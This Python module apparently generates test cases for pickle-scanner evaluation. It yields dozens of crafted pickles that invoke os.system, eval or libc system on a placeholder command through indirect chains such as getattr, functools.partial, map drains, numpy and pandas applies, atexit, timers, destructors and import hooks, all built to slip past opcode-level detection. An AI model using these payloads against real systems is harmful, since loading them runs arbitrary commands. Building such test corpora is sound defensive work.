"""Callables that call others: nothing dangerous is called by an opcode of its own."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from corpora.assembly import COMMAND, EXPRESSION, applied, call
from corpora.case import Case, Technique
from telamon.kits.attacks.pickles import NEWOBJ, Program

if TYPE_CHECKING:
    from collections.abc import Iterator

SYSTEM: Final = Program(protocol=4).global_("os", "system")
OS: Final = call("builtins", "__import__", "os")


def cases() -> Iterator[Case]:
    """Yield each construction."""
    for name, program in _chains():
        yield Case(name=name, technique=Technique.INDIRECTION, data=program.finished())


def _chains() -> Iterator[tuple[str, Program]]:
    yield from _attributes()
    yield from _appliers()
    yield from _deferred()


def _attributes() -> Iterator[tuple[str, Program]]:
    yield "getattr-of-import", applied(call("builtins", "getattr", OS, "system"), COMMAND)
    yield "getattr-of-import-module", applied(
        call("builtins", "getattr", call("importlib", "import_module", "os"), "system"), COMMAND
    )
    yield "getattr-of-harmless-module", call(
        "builtins", "getattr", Program(protocol=4).global_("collections", "_sys"), "modules"
    )
    yield "attrgetter", applied(applied(call("operator", "attrgetter", "system"), OS), COMMAND)
    yield "attrgetter-private-module", applied(applied(call("_operator", "attrgetter", "system"), OS), COMMAND)
    yield "attrgetter-dotted", applied(
        applied(call("operator", "attrgetter", "os.system"), call("builtins", "__import__", "shutil")), COMMAND
    )
    yield "methodcaller", applied(call("operator", "methodcaller", "system", COMMAND), OS)
    yield "methodcaller-on-harmless-module", applied(
        call("operator", "methodcaller", "system", COMMAND), Program(protocol=4).global_("shutil", "os")
    )
    yield "itemgetter-of-modules", applied(
        applied(call("operator", "itemgetter", "os"), Program(protocol=4).global_("sys", "modules"))
    )
    yield "getitem-of-modules", applied(
        call(
            "builtins",
            "getattr",
            call("operator", "getitem", Program(protocol=4).global_("sys", "modules"), "os"),
            "system",
        ),
        COMMAND,
    )
    yield "getitem-of-vars", applied(call("operator", "getitem", call("builtins", "vars", OS), "system"), COMMAND)
    yield "globals-of-function", call(
        "builtins", "getattr", Program(protocol=4).global_("collections", "namedtuple"), "__globals__"
    )
    yield "subclasses-of-object", applied(
        call("builtins", "getattr", Program(protocol=4).global_("builtins", "object"), "__subclasses__")
    )
    yield "getattribute-of-type", applied(
        Program(protocol=4).global_("builtins", "object.__getattribute__"), OS, "system"
    )
    yield "resolve-name", applied(call("pkgutil", "resolve_name", "os:system"), COMMAND)
    yield "locate", applied(call("pydoc", "locate", "os.system"), COMMAND)
    yield "unittest-importer", applied(call("unittest.mock", "_dot_lookup", OS, "system", "os.system"), COMMAND)
    yield "logging-resolver", applied(call("logging.config", "_resolve", "os.system"), COMMAND)
    yield "ctypes-function", applied(call("builtins", "getattr", call("ctypes", "CDLL", None), "system"), b"true")


def _appliers() -> Iterator[tuple[str, Program]]:
    yield "partial", applied(call("functools", "partial", SYSTEM, COMMAND))
    yield "partial-private-module", applied(call("_functools", "partial", SYSTEM, COMMAND))
    yield "partial-of-partial", applied(call("functools", "partial", call("functools", "partial", SYSTEM), COMMAND))
    yield "reduce-getattr", applied(
        call("functools", "reduce", Program(protocol=4).global_("builtins", "getattr"), ["system"], OS), COMMAND
    )
    yield "reduce-of-system", call("functools", "reduce", SYSTEM, [COMMAND, 0])
    for drain in ("list", "tuple", "set", "sum", "any", "max", "dict"):
        yield f"{drain}-of-map", call("builtins", drain, call("builtins", "map", SYSTEM, [COMMAND]))
    yield "list-of-filter", call("builtins", "list", call("builtins", "filter", SYSTEM, [COMMAND]))
    yield "starmap", call("builtins", "list", call("itertools", "starmap", SYSTEM, [(COMMAND,)]))
    yield "takewhile", call("builtins", "list", call("itertools", "takewhile", SYSTEM, [COMMAND]))
    yield "groupby", call("builtins", "list", call("itertools", "groupby", [COMMAND], SYSTEM))
    yield "accumulate", call("builtins", "list", call("itertools", "accumulate", [COMMAND, 0], SYSTEM))
    yield "deque-of-map", call("collections", "deque", call("builtins", "map", SYSTEM, [COMMAND]))
    yield "counter-of-map", call("collections", "Counter", call("builtins", "map", SYSTEM, [COMMAND]))
    yield "ordered-dict-of-map", call("collections", "OrderedDict", call("builtins", "map", SYSTEM, [COMMAND]))
    yield "join-of-map", applied(
        Program(protocol=4).global_("builtins", "str.join"), "", call("builtins", "map", SYSTEM, [COMMAND])
    )
    yield "array-of-map", call("array", "array", "i", call("builtins", "map", SYSTEM, [COMMAND]))
    yield "numpy-vectorize", applied(call("numpy", "vectorize", SYSTEM), [COMMAND])
    yield "numpy-frompyfunc", applied(call("numpy", "frompyfunc", SYSTEM, 1, 1), [COMMAND])
    yield "numpy-apply-along-axis", call("numpy", "apply_along_axis", SYSTEM, 0, [COMMAND])
    yield "numpy-fromiter", call("numpy", "fromiter", call("builtins", "map", SYSTEM, [COMMAND]), "i4")
    yield "pandas-series-apply", applied(
        Program(protocol=4).global_("pandas", "Series.apply"), call("pandas", "Series", [COMMAND]), SYSTEM
    )
    yield "starmap-by-newobj", call(
        "builtins",
        "tuple",
        Program(protocol=4).global_("itertools", "starmap").raw(b"(" + SYSTEM.body + b"](")
        .text(COMMAND).raw(b"\x85et" + NEWOBJ),
    )
    yield "torch-map", call("torch.utils._pytree", "tree_map", SYSTEM, [COMMAND])
    yield "next-of-iter", call("builtins", "next", call("builtins", "iter", call("functools", "partial", SYSTEM, COMMAND), 1))
    yield "re-sub", call("re", "sub", ".", call("functools", "partial", Program(protocol=4).global_("builtins", "eval"), EXPRESSION), "x")
    yield "callable-by-dunder-call", applied(call("builtins", "getattr", SYSTEM, "__call__"), COMMAND)
    yield "type-call", applied(
        Program(protocol=4).global_("builtins", "type.__call__"),
        Program(protocol=4).global_("functools", "partial"),
        SYSTEM,
        COMMAND,
    )


def _deferred() -> Iterator[tuple[str, Program]]:
    partial = call("functools", "partial", SYSTEM, COMMAND)
    yield "default-factory", call("operator", "getitem", call("collections", "defaultdict", partial), "x")
    yield "default-factory-later", call("collections", "defaultdict", partial)
    yield "partial-later", partial
    yield "method-type", applied(call("types", "MethodType", SYSTEM, COMMAND))
    yield "finalizer", call("weakref", "finalize", Program(protocol=4).global_("collections", "Counter"), SYSTEM, COMMAND)
    yield "exit-handler", call("atexit", "register", SYSTEM, COMMAND)
    yield "timer", applied(call("operator", "methodcaller", "start"), call("threading", "Timer", 0, SYSTEM, [COMMAND]))
    yield "thread-pool", applied(
        call("operator", "methodcaller", "submit", SYSTEM, COMMAND), call("concurrent.futures", "ThreadPoolExecutor")
    )
    yield "exit-stack", applied(
        Program(protocol=4).global_("contextlib", "ExitStack.callback"), call("contextlib", "ExitStack"), SYSTEM, COMMAND
    )
    yield "class-with-destructor", applied(call("builtins", "type", "X", (), {"__del__": SYSTEM}))
    yield "build-class", call("builtins", "__build_class__", SYSTEM, COMMAND)
    yield "descriptor", call("builtins", "property", SYSTEM)
    yield "cached-property", call("functools", "cached_property", SYSTEM)
    yield "single-dispatch", applied(call("functools", "singledispatch", SYSTEM), COMMAND)
    yield "lru-cache", applied(call("functools", "lru_cache", SYSTEM), COMMAND)
    yield "copier", call("copy", "_reconstruct", None, None, SYSTEM, (COMMAND,))
    yield "import-hook", applied(
        Program(protocol=4).global_("builtins", "list.append"), Program(protocol=4).global_("sys", "meta_path"), SYSTEM
    )
    yield "codec-registry", call("codecs", "register", SYSTEM)
    yield "copyreg-registry", call("copyreg", "pickle", Program(protocol=4).global_("builtins", "int"), SYSTEM)
